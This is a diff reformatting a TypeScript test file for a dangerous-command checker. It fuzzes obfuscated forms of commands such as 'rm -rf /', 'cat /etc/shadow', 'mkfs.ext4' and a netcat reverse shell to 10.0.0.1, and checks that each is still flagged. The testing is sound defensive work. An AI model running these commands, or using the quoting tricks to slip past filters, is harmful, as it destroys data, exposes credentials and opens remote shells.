@@ -8,7 +8,7 @@ const rule = (command: string): string | undefined => checkCommand(command)?.rul
 describe('a dangerous command is seen', () => {
   test.each([
     ['with an escaped letter', 'r\\m -rf /'],
-    ['with quotes inside the word', "r''m -\"r\"f /"],
+    ['with quotes inside the word', 'r\'\'m -"r"f /'],
     ['in ANSI-C quotes', "$'\\x72\\x6d' -rf /"],
     ['by its absolute path', '/bin/rm -rf /'],
     ['with long options', 'rm --recursive --force /'],
@@ -105,7 +105,9 @@ function quoted(text: string): string {
   return `'${text.replaceAll("'", "'\\''")}'`;
 }
 
-const DANGEROUS = load('commands.made-from').filter(({ label, command }) => label === 'dangerous' && isPlain(command));
+const DANGEROUS = load('commands.made-from').filter(
+  ({ label, command }) => label === 'dangerous' && isPlain(command),
+);
 
 /** Whole commands of one line: the ones that the mutations can be wrapped around. */
 function isPlain(command: string): boolean {
@@ -135,20 +137,45 @@ test('a program and its words stay dangerous however they are quoted', () => {
     (char) => `${char}''`,
     (char) => `$'\\x${char.charCodeAt(0).toString(16)}'`,
   );
-  const simple = ['rm -rf /', 'chmod -R 777 /', 'cat /etc/shadow', 'git commit --no-verify', 'mkfs.ext4 /dev/sda1', 'nc -e /bin/sh 10.0.0.1 4444'];
+  const simple = [
+    'rm -rf /',
+    'chmod -R 777 /',
+    'cat /etc/shadow',
+    'git commit --no-verify',
+    'mkfs.ext4 /dev/sda1',
+    'nc -e /bin/sh 10.0.0.1 4444',
+  ];
   fc.assert(
-    fc.property(fc.constantFrom(...simple), fc.array(letter, { minLength: 40, maxLength: 40 }), (command, ways) => {
-      const written = [...command].map((char, i) => (char === ' ' ? char : (ways[i] ?? String)(char))).join('');
-      expect(rule(written), written).toBeDefined();
-    }),
+    fc.property(
+      fc.constantFrom(...simple),
+      fc.array(letter, { minLength: 40, maxLength: 40 }),
+      (command, ways) => {
+        const written = [...command]
+          .map((char, i) => (char === ' ' ? char : (ways[i] ?? String)(char)))
+          .join('');
+        expect(rule(written), written).toBeDefined();
+      },
+    ),
     { numRuns: 500 },
   );
 });
 
 test('nothing throws, whatever the text', () => {
-  const piece = fc.constantFrom(...`rm -rf / | & ; ( ) { } $( \` ' " \\ \n << EOF <( > $a \${a: [[ ]] if then fi do done for in case esac * ~ = # ! curl sh eval`.split(' '), '\n', ' ');
-  fc.assert(fc.property(fc.array(piece, { maxLength: 60 }), (pieces) => void checkCommand(pieces.join(' '))), { numRuns: 2000 });
-  fc.assert(fc.property(fc.string({ unit: 'binary', maxLength: 400 }), (text) => void checkCommand(text)), { numRuns: 2000 });
+  const piece = fc.constantFrom(
+    ...`rm -rf / | & ; ( ) { } $( \` ' " \\ \n << EOF <( > $a \${a: [[ ]] if then fi do done for in case esac * ~ = # ! curl sh eval`.split(
+      ' ',
+    ),
+    '\n',
+    ' ',
+  );
+  fc.assert(
+    fc.property(fc.array(piece, { maxLength: 60 }), (pieces) => void checkCommand(pieces.join(' '))),
+    { numRuns: 2000 },
+  );
+  fc.assert(
+    fc.property(fc.string({ unit: 'binary', maxLength: 400 }), (text) => void checkCommand(text)),
+    { numRuns: 2000 },
+  );
 });
 
 test('a piece cut out of a command never throws either', () => {
